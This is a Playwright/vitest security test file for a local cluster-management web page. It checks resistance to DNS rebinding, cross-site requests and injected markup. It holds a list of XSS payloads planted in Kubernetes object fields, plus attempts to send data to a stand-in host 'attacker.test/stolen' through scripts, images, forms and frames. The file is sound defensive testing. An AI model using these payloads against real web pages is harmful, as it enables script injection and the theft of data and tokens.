import { patienceMs } from "@capstan/harness/patience";
import { ApiServer } from "@capstan/apiserver";
import { Cluster, coreCRDs, type KubernetesObject, Machine, type ResourceKind } from "@capstan/contract";
import { clusterObjects, machineObjects } from "@capstan/harness/scenes";
import { MockCluster, MockMachine } from "@capstan/infrastructure-mock";
import { type Client, createClient, installCRDs, requestPath } from "@capstan/runtime";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { servePage } from "../../../packages/cli/src/page/serve-page.ts";
import { AttackerSite, crossSiteAttacks } from "./attacker-site.ts";
import { noBrowser, openBrowser, unlessBrowser } from "./browser.ts";
import { ObjectsPage } from "./objects-page.ts";

const name = "m1";
const id = `Machine.cluster.x-k8s.io/default/${name}`;
/** The code that runs if any of these strings is treated as more than a string. */
const harm = "window.harmed = true";
const markup = [
  `<img src=x onerror="${harm}">`,
  `<script>${harm}</script>`,
  `</pre></script><svg onload="${harm}">`,
  `"><iframe srcdoc="<script>parent.${harm}</script>">`,
  `<a href="javascript:${harm}">click</a>`,
  `javascript:${harm}//`,
  `[click](javascript:${harm})`,
  `\${${harm}}{{constructor.constructor('${harm}')()}}`,
  `' autofocus onfocus='${harm}`,
  `<style>@import 'http://attacker.test/'</style>`,
  `<base href="http://attacker.test/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${harm}">`,
].join(" \n");

const kinds = new Map<string, ResourceKind>(
  [Cluster, Machine, MockCluster.kind, MockMachine.kind].map((kind) => [kind.kind, kind]),
);

describe.skipIf(noBrowser !== undefined)(`the page, attacked from other sites and by objects${unlessBrowser}`, () => {
  const cleanUp = new AsyncDisposableStack();
  let client: Client;
  let attacker: AttackerSite;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let url: URL;
  let token: string;
  /** Dialogs that pages opened, which must not happen. */
  const dialogs: string[] = [];

  beforeAll(async () => {
    const server = cleanUp.use(await ApiServer.start());
    client = createClient({ kubeconfig: server.kubeconfig, userAgent: "page-attacks/1" });
    cleanUp.defer(() => client.close());
    await installCRDs(client, [...coreCRDs, ...MockCluster.crds, ...MockMachine.crds]);
    const objects = [...clusterObjects("many"), ...machineObjects(name, { cluster: "many", dataSecretName: "data" })];
    for (const object of objects) await create(object);
    const shown = {
      command: "dev",
      project: markup,
      server: { url: server.url, kubeconfig: markup },
      client,
      faults: [],
    };
    url = new URL(cleanUp.use(await servePage(shown, undefined)).url);
    token = url.hash.slice(1);
    attacker = cleanUp.use(await AttackerSite.start());
    browser = await openBrowser(["--host-resolver-rules=MAP *.test 127.0.0.1, MAP localhost. 127.0.0.1"]);
    cleanUp.defer(() => browser.close());
  });
  afterAll(() => cleanUp.disposeAsync());
  beforeEach(async () => {
    dialogs.length = 0;
    context = await browser.newContext();
    page = await context.newPage();
    page.setDefaultTimeout(patienceMs);
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
  });
  afterEach(() => context.close());

  /** Creates an object with harmful strings in every field that a tenant or a provider may write. */
  async function create(object: KubernetesObject): Promise<void> {
    const kind = kinds.get(object.kind);
    if (kind === undefined) return;
    Object.assign(object.metadata, { namespace: "default", annotations: { "example.com/text": markup } });
    const { metadata } = await client.create(kind, object);
    const condition = { type: "Ready", status: "False", reason: "Harm", message: markup };
    const status = { conditions: [{ ...condition, lastTransitionTime: "2026-01-01T00:00:00Z" }] };
    const key = { namespace: "default", name: object.metadata.name };
    await client.patch(kind, key, { type: "merge", body: { status } }, { subresource: "status" });
    const { uid = "", namespace = "default" } = metadata;
    await client.request("POST", requestPath`/api/v1/namespaces/${namespace}/events`, {
      ...{ apiVersion: "v1", kind: "Event", type: "Warning", reason: "Harm", message: markup },
      metadata: { name: `${object.kind.toLowerCase()}-${key.name}.1`, namespace },
      involvedObject: { apiVersion: object.apiVersion, kind: object.kind, ...key, uid },
      source: { component: "<b>attacker</b>" },
      ...{ firstTimestamp: "2026-01-01T00:00:00Z", lastTimestamp: "2026-01-01T00:00:00Z", count: 1 },
    });
  }

  const machine = () => client.get(Machine, { namespace: "default", name });
  /** Runs code in the page. */
  const run = (code: string): Promise<string> => page.evaluate<string>(code);

  test("at its own URL reads objects and acts on them", async () => {
    await page.goto(url.href);
    const asked = (path: string, options = "{}"): Promise<string> =>
      run(
        `fetch(${JSON.stringify(path)}, { headers: { authorization: "Bearer ${token}" }, ...${options} }).then((r) => String(r.status))`,
      );
    expect(await asked(`/api/object?id=${id}`)).toBe("200");
    for (const [type, paused] of [
      ["pause", ""],
      ["resume", undefined],
    ] as const) {
      expect(await asked("/api/actions", JSON.stringify({ method: "POST", body: JSON.stringify({ type, id }) }))).toBe(
        "204",
      );
      expect((await machine()).metadata.annotations?.["cluster.x-k8s.io/paused"]).toBe(paused);
    }
  });

  test.each(["rebound.test", "127.0.0.1.test", "localhost.test", "localhost."])(
    "refuses requests to a host name that was made to resolve to it: %s",
    async (host) => {
      const answer = await page.goto(`http://${host}:${url.port}/#${token}`);
      expect(answer?.status()).toBe(403);
      for (const path of ["/", "/page.js", "/api/stream", `/api/object?id=${id}`]) {
        const asked = `fetch(${JSON.stringify(path)}, { headers: { authorization: "Bearer ${token}" } }).then((r) => String(r.status))`;
        expect(await run(asked), path).toBe("403");
      }
      const body = JSON.stringify(JSON.stringify({ type: "delete", id }));
      await run(
        `fetch("/api/actions", { method: "POST", headers: { authorization: "Bearer ${token}" }, body: ${body} }).then(() => "")`,
      );
      expect((await machine()).metadata.deletionTimestamp).toBeUndefined();
    },
  );

  const attacks = Object.keys(crossSiteAttacks("", "", {}));
  for (const host of ["attacker.test", "127.0.0.1", "localhost"]) {
    test(`reveals nothing to a page of http://${host} at another port that tries ${attacks.length} attacks`, async () => {
      const tried = crossSiteAttacks(url.origin, token, { type: "delete", id });
      const came: Record<string, string> = {};
      for (const [what, attack] of Object.entries(tried)) {
        await page.goto(`http://${host}:${attacker.port}/`);
        came[what] = await run(attack);
      }
      expect(came).toEqual(Object.fromEntries(attacks.map((what) => [what, "nothing"])));
      expect(attacker.received.filter((text) => text.includes(token))).toEqual([]);
      expect((await machine()).metadata.deletionTimestamp).toBeUndefined();
    });

    test(`gives http://${host} no access to a window that it opens`, async () => {
      await page.goto(`http://${host}:${attacker.port}/`);
      const opened = context.waitForEvent("page");
      await run(`(window.held = window.open(${JSON.stringify(url.href)}), "")`);
      const shown = await opened;
      await shown.waitForLoadState();
      expect(await shown.locator("[role=treegrid]").count()).toBe(0);
      expect(
        await run(`(() => {
        window.held.postMessage({ type: "delete", id: ${JSON.stringify(id)} }, "*");
        try { return String(window.held.document.body.innerText) } catch { return "nothing" }
      })()`),
      ).toBe("nothing");
      expect((await machine()).metadata.deletionTimestamp).toBeUndefined();
    });
  }

  test("shows the content of objects as text, and runs no code in it", async () => {
    const broken: string[] = [];
    page.on("console", (message) => {
      if (message.type() === "error") broken.push(message.text());
    });
    page.on("pageerror", (error) => broken.push(String(error)));
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    let shown = 0;
    const objects = await ObjectsPage.open(page, url.href);
    for (const [kind, of] of [
      ["Machine", name],
      ["MockMachine", name],
      ["Cluster", "many"],
    ] as const) {
      await objects.openByKeys(kind, of);
      for (const tab of await objects.details.getByRole("tab").all()) {
        await tab.click();
        if (!/conditions|yaml|events/i.test((await tab.textContent()) ?? "")) continue;
        await objects.details.getByText("<script>").first().waitFor();
        shown += 1;
      }
      expect(await run("String(window.harmed)"), kind).toBe("undefined");
    }
    expect(shown).toBe(9);
    const added = await run(`JSON.stringify([...document.querySelectorAll(
      "img, iframe, object, embed, base, meta[http-equiv], style, body script, body link, [onerror], [onload], [onfocus], [srcdoc], [href^='javascript'], [src^='javascript']"
    )].map((element) => element.outerHTML))`);
    expect(added).toBe("[]");
    expect([...dialogs, ...broken]).toEqual([]);
    expect(requests.filter((asked) => !asked.startsWith(`${url.origin}/`))).toEqual([]);
  });

  test("would run no injected markup, and would send nothing to other hosts", async () => {
    await ObjectsPage.open(page, url.href);
    const before = attacker.received.length;
    const away = `http://attacker.test:${attacker.port}/stolen`;
    const tries = {
      "an inline script": `new Promise((resolve) => { const one = document.createElement("script"); one.textContent = ${JSON.stringify(harm)}; document.body.append(one); setTimeout(resolve, 0); })`,
      "a handler": `new Promise((resolve) => { document.body.insertAdjacentHTML("beforeend", '<img src=x onerror="${harm}">'); document.body.lastChild.addEventListener("error", () => setTimeout(resolve, 0)); })`,
      "a link": `new Promise((resolve) => { document.body.insertAdjacentHTML("beforeend", '<a id="bad" href="javascript:${harm}">x</a>'); document.getElementById("bad").click(); setTimeout(resolve, 0); })`,
      "a script of elsewhere": `new Promise((resolve) => { const one = document.createElement("script"); one.src = ${JSON.stringify(away)}; one.onload = one.onerror = resolve; document.body.append(one); })`,
      "an image of elsewhere": `new Promise((resolve) => { const one = new Image(); one.onload = one.onerror = resolve; one.src = ${JSON.stringify(away)}; })`,
      "a request": `fetch(${JSON.stringify(away)}).catch(() => undefined)`,
      "a form": `new Promise((resolve) => { document.addEventListener("securitypolicyviolation", resolve, { once: true }); document.body.insertAdjacentHTML("beforeend", '<form id="f" action="${away}"></form>'); document.getElementById("f").submit(); })`,
      "a frame": `new Promise((resolve) => { const one = document.createElement("iframe"); one.onload = one.onerror = resolve; one.src = ${JSON.stringify(away)}; document.body.append(one); })`,
    };
    const came: Record<string, string> = {};
    for (const [what, attempt] of Object.entries(tries)) {
      await run(`Promise.resolve(${attempt}).then(() => "")`);
      came[what] = await run("String(window.harmed)");
    }
    expect(came).toEqual(Object.fromEntries(Object.keys(tries).map((what) => [what, "undefined"])));
    expect(attacker.received.slice(before)).toEqual([]);
  });
});
